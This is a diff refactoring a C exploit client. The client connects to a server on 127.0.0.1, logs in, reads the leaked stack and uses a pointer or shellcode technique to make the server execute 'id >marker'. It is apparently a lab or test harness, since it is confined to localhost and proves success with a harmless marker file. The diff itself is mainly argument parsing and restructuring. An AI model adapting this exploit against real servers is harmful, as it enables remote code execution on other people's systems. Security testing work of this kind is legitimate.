@@ -334,52 +334,22 @@ static int usage(FILE *out)
 	return out == stdout ? 0 : 2;
 }
 
-int main(int argc, char **argv)
+static unsigned parse_port(const char *text)
 {
-	const char *kind = HAVE_SHELLCODE ? "shellcode" : "pointer", *marker = "marker";
-	char command[256], line[256];
-	unsigned wait = 0;
-	struct stack stack;
-	int option;
-	long port;
 	char *end;
+	long port = strtol(text, &end, 10);
 
-	while ((option = getopt(argc, argv, "k:m:w:h")) != -1) {
-		switch (option) {
-		case 'k':
-			kind = optarg;
-			break;
-		case 'm':
-			marker = optarg;
-			break;
-		case 'w':
-			wait = strtoul(optarg, NULL, 10);
-			break;
-		case 'h':
-			return usage(stdout);
-		default:
-			return usage(stderr);
-		}
-	}
-	if (optind + 1 != argc)
-		return usage(stderr);
-	port = strtol(argv[optind], &end, 10);
 	if (*end || port < 1 || port > 65535)
-		fail("'%.32s' is not a port; the address is always 127.0.0.1", argv[optind]);
-	if (strlen(marker) > 64 || !*marker || marker[strspn(marker, "abcdefghijklmnopqrstuvwxyz0123456789-_")])
-		fail("a marker's name has only lower-case letters, digits, - and _");
-	if (strcmp(kind, "pointer") && !(HAVE_SHELLCODE && !strcmp(kind, "shellcode")))
-		fail("there is no kind '%.32s' here", kind);
-	snprintf(command, sizeof(command), "id >%s", marker);
-	signal(SIGPIPE, SIG_IGN);
-	setvbuf(stdout, NULL, _IOLBF, 0);
+		fail("'%.32s' is not a port; the address is always 127.0.0.1", text);
+	return (unsigned)port;
+}
 
-	connect_to(port);
-	log_in();
-	if (wait) {
-		printf("Logged in; waiting %u s.\n", wait);
-		sleep(wait);
-	}
+/* Has the server run the command. */
+static void attack(const char *kind, const char *command)
+{
+	struct stack stack;
+	char line[256];
+
 	read_stack(&stack);
 	if (stack.buffer == WORDS)
 		fail("the buffer is not on the part of the stack that the server shows");
@@ -401,5 +371,48 @@ int main(int argc, char **argv)
 	while (read_line(line, sizeof(line)))
 		;
 	printf("Done: the server ran '%s'.\n", command);
+}
+
+int main(int argc, char **argv)
+{
+	const char *kind = HAVE_SHELLCODE ? "shellcode" : "pointer", *marker = "marker";
+	char command[256];
+	unsigned wait = 0;
+	int option;
+
+	while ((option = getopt(argc, argv, "k:m:w:h")) != -1) {
+		switch (option) {
+		case 'k':
+			kind = optarg;
+			break;
+		case 'm':
+			marker = optarg;
+			break;
+		case 'w':
+			wait = strtoul(optarg, NULL, 10);
+			break;
+		case 'h':
+			return usage(stdout);
+		default:
+			return usage(stderr);
+		}
+	}
+	if (optind + 1 != argc)
+		return usage(stderr);
+	if (strlen(marker) > 64 || !*marker || marker[strspn(marker, "abcdefghijklmnopqrstuvwxyz0123456789-_")])
+		fail("a marker's name has only lower-case letters, digits, - and _");
+	if (strcmp(kind, "pointer") && !(HAVE_SHELLCODE && !strcmp(kind, "shellcode")))
+		fail("there is no kind '%.32s' here", kind);
+	snprintf(command, sizeof(command), "id >%s", marker);
+	signal(SIGPIPE, SIG_IGN);
+	setvbuf(stdout, NULL, _IOLBF, 0);
+
+	connect_to(parse_port(argv[optind]));
+	log_in();
+	if (wait) {
+		printf("Logged in; waiting %u s.\n", wait);
+		sleep(wait);
+	}
+	attack(kind, command);
 	return 0;
 }
